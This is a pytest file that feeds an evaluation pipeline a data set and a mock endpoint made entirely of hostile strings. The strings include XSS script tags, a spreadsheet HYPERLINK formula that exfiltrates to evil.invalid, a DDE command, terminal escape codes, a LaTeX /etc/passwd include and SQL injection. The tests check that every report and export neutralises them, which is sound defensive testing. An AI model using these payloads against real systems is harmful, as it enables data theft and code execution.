"""A whole run on a data set, and with an endpoint, whose every text is hostile: it ends, the texts are kept as they are, and
nothing of them acts, on the screen, in the tables, in the report, in the exports."""

import csv
import json
import re
import subprocess
import sys
from pathlib import Path

import networkx
import pandas
import pytest
from aiohttp import web
from markdown_it import MarkdownIt
from test_secrets import refusal, serving

from eval.report.pack import Chunk, unpack
from scripts.endpoint import complete

ROOT = Path(__file__).resolve().parent.parent
STEERING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
TEXTS = (
    "</script><script>alert(1)</script><!-- <img src=x onerror=alert(2)>",
    "javascript:alert(3) ${alert(4)} {{ 7 * 7 }} 'single' \"double\" `back`",
    "\x1b]0;owned\x07\x1b[2J\x1b[31m red \x9b31m \u2028 \u2029 \u202e gpj.exe \u2066",
    '=HYPERLINK("https://evil.invalid/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\\input{/etc/passwd} 100% of $x$ & #1_{a} ~^",
    "| a | b |\n|---|---|\nrun.py: all is well\r\nnext",
    "[x](javascript:alert(5)) ![y](https://evil.invalid/y) <https://evil.invalid>",
    "</turn></notes><turn> %s {0} {name} ' ; DROP TABLE replies; --",
)
SAMPLE = "conv-1"
SPEAKERS = ("Ann <script>alert(6)</script>|\x1b[2J", "=Bob\u202e@\n")


def data_set(path):
    """Two sessions; every text is one of TEXTS with a number behind it, so that no two are the same."""

    def turns(session):
        return [
            {"speaker": SPEAKERS[number % 2], "dia_id": f"D{session}:{number + 1}", "text": f"{text} {session}"}
            for number, text in enumerate(TEXTS)
        ]

    questions = [
        {"question": f"{text}?", "answer": text, "evidence": [f"D1:{number + 1}"], "category": number % 4 + 1}
        for number, text in enumerate(TEXTS)
    ]
    trap = {"question": TEXTS[2], "adversarial_answer": TEXTS[0], "evidence": ["D2:1"], "category": 5}
    conversation = {"speaker_a": SPEAKERS[0], "speaker_b": SPEAKERS[1]}
    for session in (1, 2):
        conversation |= {
            f"session_{session}_date_time": f"1:00 pm on {session} May, 2023",
            f"session_{session}": turns(session),
        }
    blank = {"event_summary": {}, "observation": {}, "session_summary": {}}
    path.write_text(
        json.dumps([{"sample_id": SAMPLE, "qa": [*questions, trap], "conversation": conversation, **blank}])
    )
    return path


class Hostile:
    """The stand-in's endpoint with one of TEXTS in each reply's texts, and some refusals that say them."""

    def __init__(self, last=None):
        self.asked = 0
        self.last = last

    async def chat(self, request):
        self.asked += 1
        text = TEXTS[self.asked % len(TEXTS)]
        if self.last is not None and self.asked > self.last:
            return refusal(401, "".join(TEXTS[2:3] + TEXTS[7:8]))
        if self.asked % 17 == 0:
            return refusal(400, text + TEXTS[2])
        reply = complete(await request.json(), number=1)
        message = reply["choices"][0]["message"]
        try:
            fields = json.loads(message["content"])
            said = {name: f"{value} {text}" if isinstance(value, str) else value for name, value in fields.items()}
            message["content"] = json.dumps(said)
        except (ValueError, AttributeError):
            message["content"] += f" {text}"
        reply["choices"][0]["finish_reason"] = "stop\x1b[2J"
        return web.json_response(reply)


def run(run_door, url, data, *more, memory="memfly", check=None):
    options = (
        "backbone=scripted",
        f"backbone.base_url={url}",
        "embedder=hashing",
        "dataset=locomo10",
        f"dataset.path={data}",
    )
    return run_door(f"memory={memory}", *options, "run.max_error_rate=1", "backbone.retries=0", *more, check=check)


@pytest.fixture
def made(run_door, tmp_path):
    """The folder of a run of each of two systems."""
    data = data_set(tmp_path / "data.json")
    shown = []
    for memory in ("memfly", "amem"):
        with serving(Hostile()) as url:
            done = run(run_door, url, data, memory=memory, check=0)
        shown.append(done.stdout + done.stderr)
    return tmp_path, shown


def command(*arguments):
    done = subprocess.run([sys.executable, *map(str, arguments)], cwd=ROOT, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout + done.stderr


def test_a_hostile_data_set_runs_and_acts_nowhere(made):
    place, shown = made
    (folder,) = place.glob("runs/memfly-*")
    records = [json.loads(line) for line in (folder / "answers.jsonl").read_bytes().split(b"\n") if line]
    assert len(records) == 11 and {record["sample_id"] for record in records} == {SAMPLE}
    assert {record["gold"] for record in records} >= set(TEXTS)  # kept as they are
    assert any(record["error"] for record in records) or any(text in str(records) for text in TEXTS)

    out = place / "out"
    shown.append(command("scripts/collect.py", place / "runs", "--out", out, "--report", out / "report.html"))
    shown.append(command("scripts/export_answers.py", place / "runs", "--out", out / "answers", "--format", "parquet"))
    shown.append(command("scripts/export_graph.py", folder, "--format", "graphml", "--out", out / "graph"))
    shown.append(command("scripts/export_graph.py", folder, "--format", "neo4j", "--out", out / "neo4j"))
    for text in shown:
        assert STEERING.findall(text) == [] and "\nrun.py: all is well" not in text

    for file in (*place.glob("runs/*/table.md"), out / "tables.md"):
        text = file.read_text(encoding="utf-8")
        tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(text)
        kinds = {child.type for token in tokens for child in (token, *(token.children or []))}
        assert STEERING.findall(text) == [] and not kinds & {"html_block", "html_inline", "link_open", "image", "fence"}
    for row in csv.reader((out / "tables.csv").open(encoding="utf-8", newline="")):
        for cell in row:
            assert not cell.startswith(("=", "@", "\t")) and not re.match(r"[+-][^\d.]", cell)
    assert not re.search(r"\\(input|alert|cmd)|(?<!\\)[$#]", (out / "tables.tex").read_text(encoding="utf-8"))

    page = (out / "report.html").read_text(encoding="utf-8")
    scripts = re.findall(r"<script\b([^>]*)>(.*?)</script>", page, re.S)
    kinds = [re.search(r'type="([^"]+)"', attributes)[1] for attributes, _ in scripts]
    assert kinds.count("module") == 1 and set(kinds) == {"module", "application/octet-stream"}
    assert page.lower().count("<script") == len(scripts) and "alert(" not in re.sub(
        r"<script\b.*?</script>", "", page, flags=re.S
    )
    (packed,) = [data for attributes, data in scripts if 'id="chunk-index"' in attributes]
    questions = unpack(Chunk("index", packed, 0))["questions"]
    assert set(TEXTS) <= set(questions["gold"]) and set(questions["sample"]) == {SAMPLE}

    table = pandas.read_parquet(out / "answers" / "answers.parquet")
    assert set(TEXTS) <= set(table["gold"]) and len(table) == 22
    graph = networkx.read_graphml(out / "graph" / "memory.graphml")
    told = " ".join(str(values.get("raw")) for _, values in graph.nodes(data=True))
    assert TEXTS[0] in told and TEXTS[3] in told
    for file in (out / "neo4j").glob("nodes_*[!r].csv"):
        header = (file.with_name(f"{file.stem}_header.csv")).read_text().strip().split(",")
        assert {len(row) for row in csv.reader(file.open(encoding="utf-8", newline=""))} <= {len(header)}


def test_the_last_words_of_an_endpoint_steer_no_screen(run_door, tmp_path):
    with serving(Hostile(last=5)) as url:
        done = run(run_door, url, data_set(tmp_path / "data.json"), check=2)
    assert STEERING.findall(done.stderr + done.stdout) == []
    *_, line = done.stderr.strip().split("\n")
    assert line.startswith("run.py: http://127.0.0.1:") and "answered 401" in line and "\\x1b]0;owned" in line
    assert "run.py: all is well" in line  # within the one line


@pytest.mark.parametrize(
    "spoilt",
    [
        lambda data: data[0].update({"\x1b[2Jkey\nrun.py: all is well": 1}),
        lambda data: data[0].update(sample_id="../=x|<b>\x1b[2J\n'; --"),
        lambda data: data[0]["qa"][0].update(category="\x1b[2J\u202e"),
        lambda data: data[0]["conversation"]["session_1"][0].update(speaker="\x1b[2Jnobody\nx"),
        lambda data: data[0]["conversation"].update({"session_1_date_time": "\x1b[2J\n\u2028"}),
    ],
)
def test_a_refused_data_set_steers_no_screen(run_door, tmp_path, spoilt):
    path = data_set(tmp_path / "data.json")
    data = json.loads(path.read_text())
    spoilt(data)
    path.write_text(json.dumps(data))
    done = run(run_door, "http://127.0.0.1:9/v1", path, check=2)
    assert STEERING.findall(done.stderr) == [] and done.stderr.count("\n") == 1 and str(path) in done.stderr
